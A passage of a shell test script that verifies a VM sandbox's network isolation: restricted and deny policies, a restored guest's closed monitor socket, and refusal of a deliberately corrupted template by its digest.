#    corrupt restricted template is refused (its digest), removed and made
#    again, and the router's rules hold in the guest restored from it.
cat >"$TMP/probe/few.sh" <<'IN'
P=/opt/fyprobe/fy-netprobe
"$P" tcp 198.51.100.1 8080 >/dev/null 2>&1 || "$P" tcp 198.51.100.1 8080 >/dev/null 2>&1; echo "tcp4-allowed $?"
"$P" tcp 198.51.100.1 9090 >/dev/null 2>&1; echo "tcp4-other-port $?"
"$P" tcp 198.51.100.2 8080 >/dev/null 2>&1; echo "tcp4-other-addr $?"
"$P" icmp 198.51.100.1 >/dev/null 2>&1; echo "icmp4 $?"
echo "devices $(ls /sys/class/net | tr '\n' ' ')"
IN
chmod 644 "$TMP/probe/few.sh"
few_ok() { # OUT-FILE LABEL
    grep -qx "tcp4-allowed 0" "$1" && grep -qx "tcp4-other-port 1" "$1" && grep -qx "tcp4-other-addr 1" "$1" &&
        grep -qx "icmp4 1" "$1" && grep -qx "devices eth0 lo " "$1" &&
        ok "$2: the allowed tuple answers, another port, address and ICMP blocked, eth0 and lo only" ||
        { bad "$2: probes"; cat "$1"; }
}
timeout 600 "$FY" run --policy "$TMP/vm.json" --bind-ro "$TMP/probe:/opt/fyprobe" --result "$TMP/r6.json" \
    -- /bin/sh -c 'echo "devices $(ls /sys/class/net | tr "\n" " ")"' >"$TMP/out" 2>"$TMP/err"
grep -qx "devices lo " "$TMP/out" && python3 - "$TMP/r6.json" "$TMP/r1.json.key" <<'PY' &&
import json, sys
iso = json.load(open(sys.argv[1]))["isolation"]
tm = iso["template"]
assert iso["boot"].startswith("template restore") and "restricted" not in iso["boot"], iso["boot"]
assert tm["state_passed"].startswith("as the restoring QEMU's standard input"), tm["state_passed"]
assert tm["key"] != open(sys.argv[2]).read() and "\nnic " not in tm["inputs"], tm
PY
    ok "deny: restored from a template without a NIC (another key), the guest has lo only" ||
    { bad "deny after restricted: not its own template"; cat "$TMP/out" "$TMP/err"; python3 -m json.tool "$TMP/r6.json" | grep -A8 '"template"'; }
run --policy "$TMP/vm.json" --network restricted --allow 198.51.100.1:8080 --result "$TMP/r7.json" \
    -- /bin/sh /opt/fyprobe/few.sh >"$TMP/out" 2>"$TMP/err"
few_ok "$TMP/out" "restricted after deny"
tmpl_used "$TMP/r7.json" "$TMP/r1.json.key" kept &&
    ok "restricted after deny: restored from the restricted template (the deny one not used)" ||
    bad "restricted after deny: not the restricted template"
# Once the restored guest runs, the restore's monitor socket answers no one
# (the library closed its listener after handing the state over).
run --policy "$TMP/vm.json" --network restricted --allow 198.51.100.1:8080 --result "$TMP/r9.json" \
    -- /bin/sh -c 'echo up; sleep 4' >"$TMP/out9" 2>"$TMP/err9" &
R9=$!
for _ in $(seq 300); do grep -qx up "$TMP/out9" 2>/dev/null && break; sleep 0.1; done
mon=$(python3 - "$TMP/cache/attempts" <<'PY'
import glob, socket, sys
socks = glob.glob(sys.argv[1] + "/*/qmp")
res = []
for p in socks:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p); res.append("connected")
    except ConnectionRefusedError:
        res.append("refused")
    s.close()
print(" ".join(res) or "none")
PY
)
wait $R9
grep -qx up "$TMP/out9" && [ "$mon" = refused ] && tmpl_used "$TMP/r9.json" "$TMP/r1.json.key" kept &&
    ok "a restored guest running: its QEMU's monitor socket refuses every connection" ||
    bad "the monitor socket while the restored guest ran: $mon ($(cat "$TMP/out9" "$TMP/err9"))"
K=$(cat "$TMP/r1.json.key")
ST=$TMP/cache/templates/$K/state
if [ -f "$ST" ]; then
    sz=$(stat -c %s "$ST")
    printf 'corrupt!' | dd of="$ST" bs=1 seek=$((sz / 2)) conv=notrunc status=none
    run --policy "$TMP/vm.json" --network restricted --allow 198.51.100.1:8080 --result "$TMP/r8.json" \
        -- /bin/sh /opt/fyprobe/few.sh >"$TMP/out" 2>"$TMP/err"
    few_ok "$TMP/out" "restricted from a remade template"
    python3 - "$TMP/r8.json" "$K" <<'PY' && ok "a corrupt restricted template is refused by its digest and made again" ||
import json, sys
r = json.load(open(sys.argv[1]))
iso = r["isolation"]
tm = iso["template"]
assert r["outcome"] == "succeeded", r["outcome"]
assert iso["boot"].startswith("template restore"), iso["boot"]
assert tm["key"] == sys.argv[2] and tm["made_by_this_attempt"] is True, tm
assert "digest mismatch" in (tm["refused_before"] or ""), tm["refused_before"]
PY
        { bad "the corrupt restricted template"; python3 -m json.tool "$TMP/r8.json" | grep -A12 '"template"'; }
    nothing_left "restricted from a remade template"
else
    bad "no restricted template at $ST"
fi

exit $fail
